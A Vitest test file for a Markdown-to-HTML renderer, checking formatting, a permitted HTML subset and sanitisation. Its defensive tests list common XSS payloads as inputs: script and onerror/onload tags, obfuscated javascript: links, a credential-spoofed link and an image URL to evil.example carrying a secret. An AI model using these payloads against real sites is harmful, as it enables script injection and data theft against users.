import { describe, expect, it } from 'vitest';
import { html, REL, render } from './support/markdown.ts';

describe('Markdown', () => {
  it.each([
    [
      'Hello **bold** and *it* `code` ~~gone~~',
      '<p>Hello <strong>bold</strong> and <em>it</em> <code>code</code> <s>gone</s></p>',
    ],
    ['one\ntwo\n\nthree', '<p>one<br>two</p><p>three</p>'],
    [
      '# One\n## Two\n### Three\n#### Four\n###### Six',
      '<h3>One</h3><h4>Two</h4><h5>Three</h5><h6>Four</h6><h6>Six</h6>',
    ],
    ['> said\n> so', '<blockquote><p>said<br>so</p></blockquote>'],
    ['- a\n- b\n\n3. c', '<ul><li>a</li><li>b</li></ul><ol start="3"><li>c</li></ol>'],
    ['- [ ] open\n- [x] done', '<ul><li><span>☐ </span> open</li><li><span>☑ </span> done</li></ul>'],
    ['```js\nlet a;\n```\nafter', '<pre><code>let a;</code></pre><p>after</p>'],
    [
      '| a | b |\n|---|---|\n| 1 | 2 |\n\nx',
      '<div class="table"><table><thead><tr><th> a </th><th> b </th></tr></thead><tbody><tr><td> 1 </td><td> 2 </td></tr></tbody></table></div><p>x</p>',
    ],
    [
      '[shop](https://shop.example/a_b "Title")',
      `<p><a href="https://shop.example/a_b" title="shop.example" ${REL}>shop</a></p>`,
    ],
    [
      'see https://shop.example/x.',
      `<p>see <a href="https://shop.example/x" ${REL}>https://shop.example/x</a>.</p>`,
    ],
    [
      '[call](tel:+442079460000)',
      '<p><a href="tel:+442079460000" title="+442079460000" rel="noopener noreferrer nofollow" dir="auto">call</a></p>',
    ],
  ])('renders %j', (text, expected) => {
    expect(html(text)).toBe(expected);
  });

  it.each([
    ['costs $5 or $HOME and $x$', 'costs $5 or $HOME and $x$'],
    ['order_id and the_long_name', 'order_id and the_long_name'],
    ['an array[0] and [1]', 'an array[0] and [1]'],
    ['a **never closed', 'a **never closed'],
    ['a `never closed', 'a `never closed'],
    ['an [open](https://never.closed', 'an [open](https://never.closed'],
    ['![no end', '![no end'],
    ['5 < 6 && 7 > 6 <3', '5 < 6 && 7 > 6 <3'],
    ['\\(x\\) \\[y\\] \\*', '(x) [y] *'],
  ])('leaves %j as text', (text, expected) => {
    expect(render(text).textContent).toBe(expected);
  });

  // M-6.25: the HTML subset that text of the platform may contain.
  it.each([
    [
      '<b>a</b> <i>b</i> <em>c</em> <strong>d</strong>',
      '<p><b>a</b> <i>b</i> <em>c</em> <strong>d</strong></p>',
    ],
    ['one<br>two<br/>three', '<p>one<br>two<br>three</p>'],
    ['<p>One</p>\n<p>Two</p>', '<p><p>One</p><p>Two</p></p>'],
    ['<ul>\n<li>a</li>\n<li>b</li>\n</ul>', '<p><ul><li>a</li><li>b</li></ul></p>'],
    [
      '<a href="https://x.example/a_b">go</a>',
      `<p><a href="https://x.example/a_b" title="x.example" ${REL}>go</a></p>`,
    ],
    [
      'https://a.example/x<br>next',
      `<p><a href="https://a.example/x" ${REL}>https://a.example/x</a><br>next</p>`,
    ],
    ['`<b>` stays', '<p><code>&lt;b&gt;</code> stays</p>'],
    ['a stray </b> is dropped', '<p>a stray  is dropped</p>'],
  ])('renders the tags of %j', (text, expected) => {
    expect(html(text)).toBe(expected);
  });

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<iframe src="https://evil.example"></iframe>',
    '<style>*{display:none}</style>',
    '<form action=https://evil.example>',
  ])('shows %j as text', (text) => {
    const root = render(text);
    expect([root.textContent, root.querySelectorAll('*').length]).toEqual([text, 1]);
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert`1`)',
    '[x](java\tscript:alert`1`)',
    '[x](data:text/html,hi)',
    '[x](vbscript:x)',
    '[x](//evil.example)',
    '[x](https://bank.example@evil.example)',
    '<a href="javascript:alert(1)">x</a>',
    "<a href='java&#115;cript:x'>x</a>",
    '![x](javascript:alert`1`)',
    '![x](http://evil.example/pixel)',
  ])('makes no link or image of %j', (text) => {
    const root = render(text);
    expect(root.querySelectorAll('[href],[src]').length).toBe(0);
    expect(root.textContent).toContain('x');
  });

  it('keeps only the href of a supported tag', () => {
    expect(
      html('<b onclick="x()" style="position:fixed">a</b><a href=https://x.example onmouseover=x>b</a>'),
    ).toBe(`<p><b>a</b><a href="https://x.example/" title="x.example" ${REL}>b</a></p>`);
  });

  it('loads an image only from the image hosts of the site', () => {
    const root = render('![ours](https://img.example/a.png) ![theirs](https://evil.example/?d=secret)');
    expect([...root.querySelectorAll('img')].map((image) => image.src)).toEqual([
      'https://img.example/a.png',
    ]);
    expect(root.querySelector('button')?.textContent).toBe('theirs Show image from evil.example');
  });

  it.each(['>', '<b>', '*a **b ', '- ', '[', '![', '`', '<a '])(
    'limits the depth of 3,000 times %j',
    (piece) => {
      const depth = (element: Element): number => 1 + Math.max(0, ...[...element.children].map(depth));
      expect(depth(render(piece.repeat(3_000)))).toBeLessThan(40);
    },
  );

  it('joins the halves of an emoji', () => {
    expect(render('a😀b', 2).textContent).toBe('a😀b');
  });
});
